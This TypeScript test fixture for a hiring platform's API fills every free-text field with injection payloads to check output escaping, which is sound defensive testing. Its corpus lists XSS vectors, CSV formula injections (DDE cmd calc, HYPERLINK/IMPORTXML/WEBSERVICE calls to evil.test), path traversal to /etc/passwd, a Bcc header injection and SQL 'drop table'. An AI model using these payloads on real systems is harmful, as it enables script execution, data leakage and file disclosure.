// An agency in which every text field contains an attack: on readers of tables (formulas), pages and
// emails (scripts, attributes, script ends), headers and paths. Texts are filled in by the contract's
// schemas, so a new field is attacked as soon as its call is made here.
import { randomBytes } from 'node:crypto';
import * as core from 'zod/v4/core';
import type * as z from 'zod/mini';
import type { Endpoint } from '#contract/endpoint.ts';
import { endpoints, type EndpointName } from '#contract/endpoints.ts';
import { newId } from '#contract/id.ts';
import type { JobDetail } from '#contract/job.ts';
import type { Company } from '#contract/company.ts';
import { call } from './harness.ts';
import type { Callable, CallInput } from './harness.ts';
import { answerTo, begin, bind, inParts, questionOf, sendTake, startBody } from './interviewing.ts';
import type { Interviewee } from './interviewing.ts';
import { companyDraft, jobDraft, questionDraft } from './people.ts';
import type { Person } from './people.ts';

/** All attacks in one text, cut to the field's length. It would call `hostileRan`. */
export const attack = `=1+1<img src=x onerror=hostileRan()>"'onmouseover=hostileRan()</script></title></textarea></style><script>hostileRan()</script><svg/onload=hostileRan()>javascript:hostileRan()`;

/** Known attacks, one at a time, as candidates' names and answers. */
export const corpus = [
  attack,
  ...['=HYPERLINK("https://evil.test?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3+cmd|x!A0', '@SUM(1+1)*cmd|x!A0'],
  ...[
    '\t=1+1',
    '\r=1+1',
    '=1+1\n=2+2',
    '";=1+1',
    ',=1+1',
    '\u00a0=1+1',
    '＝1+1',
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
  ],
  ...[
    '=IMPORTXML("https://evil.test","//a")',
    '=WEBSERVICE("https://evil.test")',
    '%0A=1+1',
    '\u202e=1+1\u202c',
  ],
  ...['<script>hostileRan()</script>', '<img src=x onerror=hostileRan()>', '<svg onload=hostileRan()>'],
  ...['"><script>hostileRan()</script>', "'-hostileRan()-'", '</title><script>hostileRan()</script>'],
  ...['javascript:hostileRan()', 'java\tscript:hostileRan()', 'data:text/html,<script>hostileRan()</script>'],
  ...['<iframe srcdoc="<script>parent.hostileRan()</script>">', '<a href=javascript:hostileRan()>x</a>'],
  ...[
    '<math><mtext></form><form><mglyph><style></math><img src onerror=hostileRan()>',
    '<!--><img src=x onerror=hostileRan()>-->',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=hostileRan()>">',
    '<template><script>hostileRan()</script></template>',
  ],
  ...[
    '\u2028hostileRan()//',
    '\\u003cscript\\u003ehostileRan()\\u003c/script\\u003e',
    '&lt;script&gt;hostileRan()&lt;/script&gt;',
  ],
  ...[
    '{{constructor.constructor("hostileRan()")()}}',
    '${hostileRan()}',
    '<%= hostileRan() %>',
    '#{hostileRan()}',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    'a/b:c*d?e"f<g>h|i',
    'CON',
    'x\r\nBcc: all@evil.test',
  ],
  ...['=?utf-8?b?PHNjcmlwdD4=?=', "'; drop table users; --", '%00', '\ufeff=1+1', '﷽﷽﷽', 'a'.repeat(200)],
] as const;

export interface HostileWorld {
  company: Company;
  job: JobDetail;
  candidates: { who: Interviewee; id: string; name: string }[];
  /** Of a link that shows the candidates to a guest. */
  reviewHash: string;
  /** Every text that was sent as an attack, by its path: `createJob questions.question`. */
  attacked: ReadonlySet<string>;
}

/** `texts`: one candidate for each. */
export async function makeHostileWorld(
  test: Callable,
  { token }: Pick<Person, 'token'>,
  texts: readonly string[] = corpus,
): Promise<HostileWorld> {
  const attacked = new Set<string>();
  const sendAttack = async <Data extends z.ZodMiniType>(
    name: EndpointName,
    endpoint: Endpoint<z.ZodMiniType, z.ZodMiniType, z.ZodMiniType, Data>,
    sent: CallInput,
  ): Promise<z.output<Data>> => {
    const note = (path: string) => attacked.add(`${name} ${path}`);
    const body = endpoint.body && withAttacks(endpoint.body, sent.body, note);
    const { data } = await call(test, endpoint, { token, ...sent, body });
    return data;
  };

  const company = await sendAttack('createCompany', endpoints.createCompany, {
    body: { ...companyDraft(), agency_name: 'x' },
  });
  await sendAttack('updateCompany', endpoints.updateCompany, {
    params: { id: company.id },
    body: { ...companyDraft({ id: company.id }), agency_name: 'x', updated_at: company.updated_at },
  });
  const draft = jobDraft(company.id, {
    competences: [{ id: newId(), name: 'x', score: 50, levels: ['x', 'x', 'x', 'x'] }],
    pipelines: [{ id: newId(), name: 'x' }],
    ask_cv: true,
    ask_additional_files: true,
    self_accommodation: true,
    expire_date: new Date(Date.now() + 86_400_000).toISOString(),
    questions: [
      questionDraft('video'),
      questionDraft('text'),
      questionDraft('code', {
        tests: [{ id: newId(), text: '1', output: '1', hidden: false, correct: false }],
        starters: [{ language: 'python', code: 'x' }],
      }),
      questionDraft('choice'),
    ],
  });
  const job = await sendAttack('createJob', endpoints.createJob, { body: draft });
  await sendAttack('updateJob', endpoints.updateJob, {
    params: { id: job.id },
    body: { ...draft, updated_at: job.updated_at },
  });
  const params = { id: job.id };
  await saveDrafts();
  const message = {
    email_title: '{{job_name}}',
    greeting: '{{candidate_name}} {{job_name}} {{company_name}}',
  };
  for (const kind of ['invitation', 'reminder', 'rejection', 'acceptance'] as const)
    await sendAttack('saveMessageTemplate', endpoints.saveMessageTemplate, {
      params: { kind, language: 'en-US' },
      body:
        kind === 'invitation' || kind === 'reminder'
          ? { ...message, sms_text: '{{interview_link}}' }
          : message,
    });
  await sendAttack('testMessage', endpoints.testMessage, {
    params: { kind: 'invitation', language: 'en-US' },
    body: { id: newId(), job_id: job.id, ...message, sms_text: '{{interview_link}}' },
  });

  const candidates: HostileWorld['candidates'] = [];
  const all = [...texts.entries()];
  for (let from = 0; from < all.length; from += 4)
    candidates.push(...(await Promise.all(all.slice(from, from + 4).map(([n, text]) => interview(text, n)))));
  const [first, second] = candidates;
  if (!first || !second) throw new Error('nobody came');
  await aboutOne(first.id, first.who);
  await scorecard(first.id);
  await invitations();
  const link = await sendAttack('addReviewLink', endpoints.addReviewLink, {
    body: {
      id: newId(),
      job_id: job.id,
      response_ids: [first.id, second.id],
      question_ids: null,
      name: 'x',
      message: 'x',
      ...{ shows_contact: true, shows_files: true, may_rate: true, may_comment: true },
      expires_at: null,
      password: '',
    },
  });
  await asGuest(link.hash);
  await aboutUs();
  return { company, job, candidates, reviewHash: link.hash, attacked };

  async function aboutUs(): Promise<void> {
    const user = await call(test, endpoints.getUser, { token }).then(({ data }) => data);
    await sendAttack('saveProfile', endpoints.saveProfile, {
      body: {
        ...{ name: 'x', phone: '', country: '', recruiting_owner: false, language: 'en-US', time_zone: '' },
        updated_at: user.updated_at,
      },
    });
    const hook = { url: 'https://hooks.example.com/x', description: 'x', events: ['candidate.rated'] };
    const webhook = await sendAttack('addWebhook', endpoints.addWebhook, { body: { id: newId(), ...hook } });
    await sendAttack('updateWebhook', endpoints.updateWebhook, {
      params: { id: webhook.id },
      body: { ...hook, active: false, updated_at: webhook.updated_at },
    });
    const seen = await call(test, endpoints.getCurrentPlan, { token }).then(({ data }) => data.billing_info);
    await sendAttack('saveBilling', endpoints.saveBilling, {
      body: { ...seen, client_type: 'business', email: 'bills@example.test', country: 'US', seen },
    });
    await sendAttack('askSupport', endpoints.askSupport, {
      body: {
        ...{ id: newId(), topic: 'question', text: 'x', job_id: job.id, language: 'en-US', picture: null },
        facts: {
          ...{ version: 'x', browser: 'x', screen: 'x', time_zone: 'x' },
          faults: [{ code: 'x', status: 500, call: 'x', at: new Date().toISOString() }],
        },
      },
    });
  }

  async function scorecard(id: string): Promise<void> {
    const { data: card } = await call(test, endpoints.getScorecard, { token, params: { id } });
    const levels = card.competences.map((competence) => ({
      ...{ competence_id: competence.id, version: competence.version, level: 3, note: 'x' },
    }));
    const saved = await sendAttack('saveScorecard', endpoints.saveScorecard, {
      params: { id },
      body: { updated_at: null, levels },
    });
    await sendAttack('submitScorecard', endpoints.submitScorecard, {
      params: { id },
      body: { updated_at: saved.own?.updated_at ?? null, levels },
    });
  }

  async function asGuest(hash: string): Promise<void> {
    const guest = randomBytes(32).toString('base64url');
    const opened = { session_token: guest, password: '', name: 'x' };
    await sendAttack('openReviewLink', endpoints.openReviewLink, { params: { hash }, body: opened });
    const shared = await call(test, endpoints.getSharedCandidates, { token: guest }).then(({ data }) => data);
    const answer = shared.candidates[0]?.answers[0]?.id ?? '';
    const comment = { id: newId(), text: 'x', at_ms: null };
    await sendAttack('commentAsGuest', endpoints.commentAsGuest, {
      token: guest,
      params: { id: answer },
      body: comment,
    });
  }

  async function saveDrafts(): Promise<void> {
    const { data: config } = await call(test, endpoints.getConfig, { token });
    const subject_id = config.subjects[0]?.id;
    const codeDraft = questionDraft('code', {
      tests: [{ id: newId(), text: '1', output: '1', hidden: false, correct: false }],
      starters: [{ language: 'python', code: 'x' }],
    });
    const question = { ...codeDraft, subject_id, role_id: null, language: 'en-US' };
    const banked = await sendAttack('addToBank', endpoints.addToBank, { body: question });
    await sendAttack('changeBankQuestion', endpoints.changeBankQuestion, {
      params: { id: banked.id },
      body: { ...question, updated_at: banked.updated_at },
    });
    const template = {
      name: 'x',
      role_id: null,
      questions: [{ ...codeDraft, default_id: null }],
      competences: [{ name: 'x', score: 10, levels: ['x', 'x', 'x', 'x'] }],
    };
    const stored = await sendAttack('addHiringTemplate', endpoints.addHiringTemplate, {
      body: { id: newId(), ...template },
    });
    await sendAttack('changeHiringTemplate', endpoints.changeHiringTemplate, {
      params: { id: stored.id },
      body: { ...template, updated_at: stored.updated_at },
    });
    await sendAttack('saveView', endpoints.saveView, {
      params: { id: newId() },
      body: {
        name: 'x',
        job_id: job.id,
        filters: { search: 'x', tag: 'x', source: 'x' },
        layout: 'table',
        shared: true,
      },
    });
    await sendAttack('addShareLink', endpoints.addShareLink, { params, body: { id: newId(), source: 'x' } });
    await sendAttack('addQuickNote', endpoints.addQuickNote, { body: { id: newId(), text: 'x' } });
  }

  /** An interview with this text in every field of the candidate. */
  async function interview(text: string, n: number) {
    const email = `c${n}@example.test`;
    const who = await begin(test, job, {
      name: text.trim() || 'x',
      email,
      device: { user_agent: text, time_zone: text.slice(0, 100) },
    });
    const asOne = { token: who.token };
    const written: unknown = answerTo(questionOf(who, 'text'), { text });
    await call(test, endpoints.submitAnswer, { ...asOne, body: written }).then(({ data }) => data);
    const program = answerTo(questionOf(who, 'code'), { language: 'python', code: text });
    await call(test, endpoints.submitAnswer, { ...asOne, body: program }).then(({ data }) => data);
    const take = await bind(test, who, {
      purpose: 'cv',
      question_id: null,
      mime_type: 'text/plain',
      name: `${text.slice(0, 150)}.txt`,
    });
    await sendTake(test, who, take, [
      inParts(Buffer.from(`${attack} ${text.replaceAll(/[^\x20-\x7e]/g, '')}`)),
    ]);
    const finished = { id: newId(), finished_at: new Date().toISOString() };
    await call(test, endpoints.finishInterview, { ...asOne, body: finished }).then(({ data }) => data);
    return { who, id: who.interview.response_id, name: text };
  }

  async function aboutOne(id: string, { token: own }: Interviewee): Promise<void> {
    const of = { params: { id } };
    const response = await call(test, endpoints.getResponse, { token, ...of }).then(({ data }) => data);
    const answer = response.answers[0]?.id ?? '';
    const note = { id: newId(), text: 'x' };
    const { notes } = await sendAttack('addNote', endpoints.addNote, { ...of, body: note });
    await sendAttack('editNote', endpoints.editNote, {
      params: { id: note.id },
      body: { text: 'x', updated_at: notes[0]?.updated_at },
    });
    const comment = { id: newId(), text: 'x', at_ms: null };
    const { answers: commented } = await sendAttack('addComment', endpoints.addComment, {
      params: { id: answer },
      body: comment,
    });
    const comments = commented.flatMap((answer) => answer.comments);
    await sendAttack('editComment', endpoints.editComment, {
      params: { id: comment.id },
      body: { text: 'x', updated_at: comments[0]?.updated_at },
    });
    await sendAttack('setTags', endpoints.setTags, {
      params,
      body: { response_ids: [id], add: ['x'], remove: [] },
    });
    await sendAttack('setLegalHold', endpoints.setLegalHold, { ...of, body: { on: true, reason: 'x' } });
    await sendAttack('setLegalHold', endpoints.setLegalHold, { ...of, body: { on: false, reason: 'x' } });
    const request = { id: newId(), kind: 'question', text: 'x' };
    await sendAttack('makeRequest', endpoints.makeRequest, { token: own, body: request });
    await sendAttack('replyToRequest', endpoints.replyToRequest, {
      params: { id, request: request.id },
      body: { state: 'declined', reply: 'x' },
    });
    const decided = { id: newId(), items: [{ response_id: id, from: response.status, to: 'rejected' }] };
    await call(test, endpoints.setStatuses, { token, params, body: decided }).then(({ data }) => data);
    await sendAttack('sendDecisionLetter', endpoints.sendDecisionLetter, {
      params: { id, kind: 'rejection' },
      body: { id: newId(), title: 'x', text: 'x' },
    });
  }

  async function invitations(): Promise<void> {
    await sendAttack('inviteByEmail', endpoints.inviteByEmail, {
      params,
      body: { id: newId(), name: 'x', email: 'mail@example.test' },
    });
    await sendAttack('inviteList', endpoints.inviteList, {
      params,
      body: {
        ...{ id: newId(), language: 'en-US' },
        people: [{ id: newId(), name: 'x', email: 'listed@example.test' }],
      },
    });
    await sendAttack('startImport', endpoints.startImport, {
      params,
      body: {
        id: newId(),
        channel: 'email',
        file_name: 'x',
        language: 'en-US',
        duplicates: 0,
        rows: texts.map((name, row) => ({
          ...{ name, email: `row${row}@example.test`, phone: '' },
          ...{ tags: ['x'], note: 'x', source: 'x' },
        })),
      },
    });
    await sendAttack('startShare', endpoints.startShare, {
      params: { hash: job.hash_link },
      body: startBody({ email: 'all@example.test' }),
    });
  }
}

/** The version that a page was opened with; it is compared and not stored. */
const compared = 'seen';

/**
 * Replaces every free text of a body with the attack, cut to its length. Texts with a checked form stay.
 */
export function withAttacks(
  schema: core.$ZodType,
  value: unknown,
  note: (path: string) => void,
  path = '',
): unknown {
  if (value === null || value === undefined || path === compared) return value;
  if (schema instanceof core.$ZodObject) {
    const fields = Object.entries(schema._zod.def.shape).map(([name, field]) => [
      name,
      withAttacks(field, Reflect.get(Object(value), name), note, below(path, name)),
    ]);
    return Object.fromEntries(fields.filter(([, content]) => content !== undefined));
  }
  if (schema instanceof core.$ZodArray)
    return Array.isArray(value)
      ? value.map((item) => withAttacks(schema._zod.def.element, item, note, path))
      : value;
  if (schema instanceof core.$ZodUnion) {
    const own = schema._zod.def.options.find((option) => core.safeParse(option, value).success);
    return own ? withAttacks(own, value, note, path) : value;
  }
  const inner = innerOf(schema);
  if (inner) return withAttacks(inner, value, note, path);
  const longest = lengthOf(schema);
  if (longest === undefined) return value;
  note(path);
  const form = forms[path.split('.').at(-1) ?? ''];
  if (form) return form(value);
  // Variables of a message stay in it.
  const filled = typeof value === 'string' && value.includes('{{') ? ` ${value}` : '';
  return attack.slice(0, longest - filled.length) + filled;
}

/** Texts with checks beyond the schema: attacked within their form, or unchanged. */
const forms: Record<string, (value: unknown) => unknown> = {
  captions: () => `WEBVTT\n\n00:00.000 --> 00:09.000\n${attack}`,
  video_link: (value) => value,
  language_answer: (value) => value,
  time_zone: (value) => value,
};

/** The paths of a body's texts: `questions.tests.text`. */
export function textsOf(schema: core.$ZodType, path = ''): string[] {
  if (path === compared) return [];
  if (schema instanceof core.$ZodObject)
    return Object.entries(schema._zod.def.shape).flatMap(([name, field]) =>
      textsOf(field, below(path, name)),
    );
  if (schema instanceof core.$ZodArray) return textsOf(schema._zod.def.element, path);
  if (schema instanceof core.$ZodUnion)
    return schema._zod.def.options.flatMap((option) => textsOf(option, path));
  const inner = innerOf(schema);
  if (inner) return textsOf(inner, path);
  return lengthOf(schema) === undefined ? [] : [path];
}

function below(path: string, name: string): string {
  return path ? `${path}.${name}` : name;
}

function innerOf(schema: core.$ZodType): core.$ZodType | undefined {
  const isAround =
    schema instanceof core.$ZodNullable ||
    schema instanceof core.$ZodOptional ||
    schema instanceof core.$ZodDefault;
  return isAround ? schema._zod.def.innerType : undefined;
}

/** The maximum length of a text; undefined for other types and texts with a checked form. */
function lengthOf(schema: core.$ZodType): number | undefined {
  if (!(schema instanceof core.$ZodString) || schema instanceof core.$ZodStringFormat) return undefined;
  const checks = (schema._zod.def.checks ?? []).map(({ _zod }) => _zod.def);
  if (checks.some(({ check }) => check === 'string_format')) return undefined;
  const longest = checks.flatMap((check) => ('maximum' in check ? [Number(check.maximum)] : []));
  return longest[0] ?? attack.length;
}
